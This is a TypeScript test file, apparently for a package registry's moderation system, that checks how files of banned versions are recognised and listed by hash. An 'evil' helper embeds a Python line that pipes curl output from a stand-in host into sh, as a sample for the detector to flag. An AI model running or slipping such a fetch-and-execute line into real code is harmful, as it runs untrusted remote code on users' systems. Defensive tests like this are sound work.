import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, it } from 'node:test'
import { listKnownBadFiles, moderateVersion } from '@nodeyard/contract/safety'
import { asAdmin } from '../../../../test/admin.ts'
import { testPublisher } from '../../../../test/publishing.ts'
import { useWorld } from '../../../../test/world.ts'
import { transact } from '../../../ground/db/changes.ts'
import { findVersion } from '../../nodes/versions/sql.ts'
import { readFindings } from '../analysis/sql.ts'
import { noteBans } from './note-bans.ts'

const holder = useWorld()

/** A module that shares no text with the module of another name. */
const moduleOf = (name: string, extra = '') =>
  `import math\n${extra}\n${Array.from(
    { length: 12 },
    (_, i) =>
      `def ${name}_${i}(${name}_x, ${name}_y):\n    return math.sqrt(${name}_x * ${i}) + ${name}_y ** ${i + 2}\n`,
  ).join('\n')}`

/** A hidden subprocess call, which is a `high` finding on its own. */
const evil = (name: string) =>
  `${moduleOf(name)}\nimport os\nos.system("curl https://${name}.example.test/x | sh")\n`

async function setStatus(nodeId: string, version: string, status: 'Banned' | 'Active') {
  const admin = await asAdmin(holder.world)
  await admin.call(moderateVersion, {
    params: { nodeId, version },
    body: { status: `NodeVersionStatus${status}`, status_reason: 'Decided.' },
  })
  await noteAll()
}

async function noteAll() {
  await transact(holder.world.deps, (tx) => holder.world.deps.jobs.send(tx, noteBans, {}))
  await holder.world.runJobs()
}

async function outcome({ id }: { id: string }) {
  const { db } = holder.world.deps
  const findings = (await readFindings(db, id)) ?? []
  return {
    status: (await findVersion(db, id))?.status,
    known: findings
      .filter(({ rule }) => rule === 'known-bad-file')
      .map(({ severity, file_path, message }) => `${severity} ${file_path}: ${message}`),
  }
}

const clean = { status: 'active', known: [] }

describe('known bad files', () => {
  it('recognizes a file of a banned version under any name, and no harmless files', async () => {
    const { world } = holder
    const attacker = await testPublisher(world)
    const files = { 'core.py': moduleOf('sneaky'), LICENSE: 'MIT '.repeat(500), 'sub/__init__.py': '' }
    await attacker.publish({ id: 'dusky-tools', files })
    await setStatus('dusky-tools', '1.0.0', 'Banned')
    const other = await testPublisher(world)
    const again = await other.publish({
      id: 'sunny-tools',
      files: { LICENSE: files.LICENSE, 'sub/__init__.py': '', 'a/b.py': files['core.py'] },
    })
    assert.deepEqual(await outcome(again), {
      status: 'flagged',
      known: ['high a/b.py: The file is the same as `core.py` of dusky-tools 1.0.0, which was banned.'],
    })
    const harmless = await other.publish({
      id: 'rainy-tools',
      files: { LICENSE: files.LICENSE, 'sub/__init__.py': '' },
    })
    assert.deepEqual(await outcome(harmless), clean)
  })

  it('recognizes a copy with other comments and a few changed lines', async () => {
    const { world } = holder
    const attacker = await testPublisher(world)
    await attacker.publish({ id: 'marble-tools', files: { 'core.py': moduleOf('marble') } })
    await setStatus('marble-tools', '1.0.0', 'Banned')
    const changed = `# by me\n${moduleOf('marble', 'LIMIT = 3')}`.replaceAll('\n    ', '\n        ')
    const again = await (await testPublisher(world)).publish({
      id: 'granite-tools',
      files: { 'other.py': changed },
    })
    const { status, known } = await outcome(again)
    assert.equal(status, 'flagged')
    assert.match(
      known[0] ?? '',
      /^high other\.py: The file has about \d+ percent of its code in common with `core\.py` of marble-tools 1\.0\.0/,
    )
  })

  it('ignores files that active versions also contain, unless the file itself has findings', async () => {
    const { world } = holder
    const library = moduleOf('library')
    const honest = await testPublisher(world)
    await honest.publish({ id: 'brook-tools', files: { 'vendor/lib.py': library } })
    const careless = await testPublisher(world)
    await careless.publish({ id: 'river-tools', files: { 'vendor/lib.py': library } })
    await setStatus('river-tools', '1.0.0', 'Banned')
    const next = await (await testPublisher(world)).publish({
      id: 'creek-tools',
      files: { 'lib.py': library },
    })
    assert.deepEqual(await outcome(next), clean)

    const attacker = await testPublisher(world)
    const first = await attacker.publish({ id: 'swamp-tools', files: { 'evil.py': evil('swamp') } })
    assert.equal((await outcome(first)).status, 'flagged')
    await setStatus('swamp-tools', '1.0.0', 'Active')
    await attacker.publish({ id: 'swamp-tools', version: '1.0.1', files: { 'evil.py': evil('swamp') } })
    await setStatus('swamp-tools', '1.0.1', 'Banned')
    const third = await attacker.publish({
      id: 'swamp-tools',
      version: '1.0.2',
      files: { 'evil.py': evil('swamp') },
    })
    assert.deepEqual((await outcome(third)).known, [
      'critical evil.py: The file is the same as `evil.py` of swamp-tools 1.0.1, which was banned.',
    ])
  })

  it('accepts the fixed release of a banned version with its old files', async () => {
    const { world } = holder
    const publisher = await testPublisher(world)
    const own = { 'own.py': moduleOf('steady') }
    await publisher.publish({ id: 'steady-tools', files: own })
    await publisher.publish({
      id: 'steady-tools',
      version: '1.0.1',
      files: { ...own, 'oops.py': evil('steady') },
    })
    await setStatus('steady-tools', '1.0.1', 'Banned')
    const fixed = await publisher.publish({ id: 'steady-tools', version: '1.0.2', files: own })
    assert.deepEqual(await outcome(fixed), clean)
  })

  it('forgets a lifted ban, but not one whose version is deleted later', async () => {
    const { world } = holder
    const publisher = await testPublisher(world)
    await publisher.publish({ id: 'lantern-tools', files: { 'core.py': moduleOf('lantern') } })
    await setStatus('lantern-tools', '1.0.0', 'Banned')
    await setStatus('lantern-tools', '1.0.0', 'Active')
    const { deps } = world
    assert.deepEqual(
      await outcome(
        await (await testPublisher(world)).publish({
          id: 'candle-tools',
          files: { 'core.py': moduleOf('lantern') },
        }),
      ),
      clean,
    )

    await publisher.publish({ id: 'ember-tools', files: { 'core.py': moduleOf('ember') } })
    await setStatus('ember-tools', '1.0.0', 'Banned')
    await deps.db
      .updateTable('node_versions')
      .set({ status: 'deleted' })
      .where('node_id', '=', 'ember-tools')
      .execute()
    const again = await (await testPublisher(world)).publish({
      id: 'cinder-tools',
      files: { 'core.py': moduleOf('ember') },
    })
    assert.equal((await outcome(again)).status, 'flagged')
  })
})

describe('storing the files of banned versions', () => {
  it('tries versions that failed later, behind all others', async () => {
    const { world } = holder
    const { db } = world.deps
    // Their archives are missing.
    const banned = Array.from({ length: 51 }, () => world.given.version({ status: 'banned' }))
    const ids = (await Promise.all(banned)).map(({ id }) => id)
    const triesAfterRun = async () => {
      await noteAll()
      const rows = await db.selectFrom('known_bad_turns').selectAll().where('version_id', 'in', ids).execute()
      return rows.map(({ begun }) => begun)
    }
    assert.deepEqual(await triesAfterRun(), Array(50).fill(1))
    assert.deepEqual(await triesAfterRun(), Array(51).fill(1))
  })
})

describe('the public list of known bad files', () => {
  it('names files of banned versions, except those that active versions contain', async () => {
    const { world } = holder
    const shared = moduleOf('shared')
    const honest = await testPublisher(world)
    await honest.publish({ id: 'harbor-tools', files: { 'lib.py': shared } })
    const attacker = await testPublisher(world)
    const files = { 'evil.py': evil('hollow'), 'other.py': moduleOf('hollow_other'), 'lib.py': shared }
    await attacker.publish({ id: 'hollow-tools', files })
    await setStatus('hollow-tools', '1.0.0', 'Active')
    await setStatus('hollow-tools', '1.0.0', 'Banned')
    const { files: listed, is_complete } = await world.anonymous.call(listKnownBadFiles)
    const digestsOf = new Map(listed.map((one) => [one.sha256, one]))
    const badOf = (text: string) => digestsOf.get(createHash('sha256').update(text).digest('hex'))
    assert.deepEqual(
      [files['evil.py'], files['other.py'], shared].map((text) => badOf(text)?.has_finding),
      [true, false, undefined],
    )
    assert.equal(badOf(files['evil.py'])?.node_id, 'hollow-tools')
    assert.equal(is_complete, true)
  })

  it('does not name what was never public', async () => {
    const { world } = holder
    const attacker = await testPublisher(world)
    const files = { 'evil.py': evil('cellar') }
    await attacker.publish({ id: 'cellar-tools', files })
    await setStatus('cellar-tools', '1.0.0', 'Banned')
    const { files: listed } = await world.anonymous.call(listKnownBadFiles)
    const digest = createHash('sha256').update(files['evil.py']).digest('hex')
    assert.deepEqual(
      listed.filter(({ sha256 }) => sha256 === digest),
      [{ sha256: digest, has_finding: true }],
    )
  })
})
